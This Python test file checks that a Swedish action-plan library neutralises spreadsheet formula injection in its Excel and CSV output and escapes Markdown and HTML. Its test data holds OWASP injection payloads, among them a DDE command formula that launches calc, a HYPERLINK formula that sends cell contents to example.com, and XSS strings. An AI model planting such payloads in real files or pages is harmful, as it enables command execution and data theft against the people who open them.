"""Text written where a program would read more than text (issue 22): no spreadsheet or CSV file
the library writes holds a formula, whatever a title, description or answer begins with; no
Markdown it writes holds live markup or HTML. Each writer is tried with the texts an attacker
would use (OWASP's "CSV injection" list and a few of Markdown's)."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

import form_filler
import handlingsplan as hp
from handlingsplan import cli
from handlingsplan._safe_text import csv_field, markdown_text, starts_formula

#: Texts that a spreadsheet would run (OWASP), each as the start of a title.
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.com/?x="&A1,"klicka")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    " =1+1",
    "=cmd|' /C calc'!A0",
]
MARKUP = [
    "<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "a | b",
    "`kod`",
    "*fet* och _kursiv_",
    "<img src=x onerror=alert(1)>",
    "#rubrik",
]


YEAR = 2022


def plan_with_titles(titles: list[str]) -> hp.Plan:
    """The shipped plan with a draft 2022 report, a measure added for each title (1.1.21,
    1.1.22 ...)."""
    plan = hp.load_default()
    report = plan.new_report(YEAR)
    for number, title in enumerate(titles, start=21):
        report.add(
            hp.Measure(
                id=f"1.1.{number}",
                title=title,
                description=title,
                agencies="MSB",
                period="2022",
            )
        )
    return plan


def strip_whitespace_kept(text: str) -> str:
    """How the core keeps a title (its ends trimmed)."""
    return text.strip()


def test_what_starts_like_a_formula() -> None:
    for text in [*FORMULAS, "\r=1+1"]:
        text = text.lstrip(" ")  # the core trims a text's ends; a field starts after the space
        assert starts_formula(text)
        assert csv_field(text) == "'" + text
    assert csv_field("Åtgärd 1") == "Åtgärd 1"
    assert csv_field("") == ""


def formula_cells(path: Path) -> list[str]:
    """Every cell of the workbook at `path` that a spreadsheet would compute: the XML's <f>
    elements (what openpyxl writes for a value starting with "=") and cells typed as formulas."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name):
                found.append(name)
    workbook = openpyxl.load_workbook(path)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            found.extend(f"{sheet.title}!{c.coordinate}" for c in row if c.data_type == "f")
    return found


def test_the_appendix_in_excel_holds_no_formula_and_the_same_text(tmp_path: Path) -> None:
    plan = plan_with_titles(FORMULAS)
    path = tmp_path / "bilaga.xlsx"
    plan.report(YEAR).appendix().to_excel(path)
    assert formula_cells(path) == []
    workbook = openpyxl.load_workbook(path)
    texts = {c.value for s in workbook.worksheets for row in s.iter_rows() for c in row}
    for title in FORMULAS:
        # The cell starts with the title as kept (Bilaga 1 trims a cell's ends).
        kept = plan.report(YEAR).measure(f"1.1.{21 + FORMULAS.index(title)}").title.strip()
        assert any(str(t).startswith(kept) for t in texts if t), title
    # Each such cell is text marked as Excel marks a typed apostrophe (shown, kept on edit).
    marked = [
        c
        for s in workbook.worksheets
        for row in s.iter_rows()
        for c in row
        if isinstance(c.value, str) and starts_formula(c.value)
    ]
    assert marked and all(c.data_type == "s" and c.quotePrefix for c in marked)


def test_the_forms_hold_no_formula_and_read_back_the_same_text(tmp_path: Path) -> None:
    plan = plan_with_titles(FORMULAS)
    report = plan.report(YEAR)
    paths = report.write_update_forms(tmp_path / "utskick", ["MSB"])
    assert formula_cells(paths[0]) == []
    # The form read back: the titles (locked cells) match what was written, so no problem.
    result = report.check_update_forms(paths)
    assert not result.problems, result.summary()
    # An agency's answer that begins with "=", typed as text, is applied as that text and
    # written as text again in next year's form and in Bilaga 1.
    nr = "1.1.21"
    form_filler.fill(paths[0], {nr: {"Ny beskrivning": "=HYPERLINK(1)"}})
    workbook = openpyxl.load_workbook(paths[0])
    sheet = workbook["Åtgärder"]
    cell = sheet[form_filler.cell_name(sheet, nr, "Ny beskrivning")]
    cell.data_type = "s"  # as Excel saves a text typed with an apostrophe
    cell.quotePrefix = True
    workbook.save(paths[0])
    report.read_update_forms(paths)
    assert report.measure(nr).description == "=HYPERLINK(1)"
    again = report.write_update_forms(tmp_path / "igen", ["MSB"])
    assert formula_cells(again[0]) == []
    report.appendix().to_excel(tmp_path / "b.xlsx")
    assert formula_cells(tmp_path / "b.xlsx") == []


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def no_field_starts_a_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for field in row:
            assert not starts_formula(field), field


def test_the_appendix_as_csv_neutralises_every_field(tmp_path: Path) -> None:
    plan = plan_with_titles(FORMULAS)
    path = tmp_path / "bilaga.csv"
    plan.report(YEAR).appendix().to_csv(path)
    rows = csv_rows(path.read_text(encoding="utf-8-sig"))
    no_field_starts_a_formula(rows)
    fields = {field for row in rows for field in row}
    assert "'=1+1" in fields
    assert "'@SUM(1,1)" in fields


def test_bilaga_format_csv_neutralises_every_field(tmp_path: Path) -> None:
    plan = plan_with_titles(FORMULAS)
    plan.save(tmp_path / "plan.json")
    out = tmp_path / "b.csv"
    code = cli.main(
        [
            "bilaga",
            "--plan",
            str(tmp_path / "plan.json"),
            "--format",
            "csv",
            "-o",
            str(out),
            "--year",
            str(YEAR),
        ]
    )
    assert code == 0
    rows = csv_rows(out.read_text(encoding="utf-8-sig"))
    no_field_starts_a_formula(rows)
    assert any("'=1+1" in row for row in rows)


def test_the_diff_as_csv_neutralises_every_field(tmp_path: Path) -> None:
    after = plan_with_titles(FORMULAS)
    d = hp.diff(after.report(2021), after.report(YEAR))
    out = io.StringIO()
    d.to_csv(out)
    rows = csv_rows(out.getvalue())
    no_field_starts_a_formula(rows)
    assert any("'=1+1" in row for row in rows)
    # The frame itself keeps the text as it is: only the written file is neutralised.
    assert "=1+1" in set(d.to_dataframe()["title"])


@pytest.mark.parametrize("text", MARKUP)
def test_markdown_text_leaves_no_markup(text: str) -> None:
    escaped = markdown_text(text)
    assert "<" not in escaped
    assert markdown_text("# rubrik", paragraph=True) == "\\# rubrik"
    for special in "|`*_[]":
        assert special not in escaped.replace("\\" + special, "")


def test_the_diff_and_the_appendix_in_markdown_escape_markup() -> None:
    plan = plan_with_titles(MARKUP)
    d = hp.diff(plan.report(2021), plan.report(YEAR))
    for text in (d.to_markdown(), plan.report(YEAR).appendix().to_markdown()):
        assert "<script>" not in text
        assert "<img" not in text
        assert not re.search(r"(?<!\\)\]\(", text)  # no link: every "]" escaped
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
        assert "\\[x\\](javascript:alert(1))" in text
        assert "a \\| b" in text


@pytest.mark.parametrize(
    ("text", "paragraph", "expected"),
    [
        # quotes and apostrophes are text, not markup: left as typed
        ('Ta fram "vägledning" för it-säkerhet', False, 'Ta fram "vägledning" för it-säkerhet'),
        ("FRA:s uppdrag", False, "FRA:s uppdrag"),
        # a line break of either kind is one <br>, in a cell or a paragraph
        ("Första stycket.\r\nAndra stycket.", False, "Första stycket.<br>Andra stycket."),
        ("ett\ntvå", True, "ett<br>två"),
        # "#" begins a heading only at the start of a paragraph
        ("# rubrik", True, "\\# rubrik"),
        ("# rubrik", False, "# rubrik"),
        ("Åtgärd 1.1.5", True, "Åtgärd 1.1.5"),
        ("a < b & c", False, "a &lt; b &amp; c"),
    ],
)
def test_markdown_text_exactly(text: str, paragraph: bool, expected: str) -> None:
    assert markdown_text(text, paragraph=paragraph) == expected


def test_markdown_text_is_for_a_cell_unless_told() -> None:
    assert markdown_text("# 1.1.5") == "# 1.1.5"
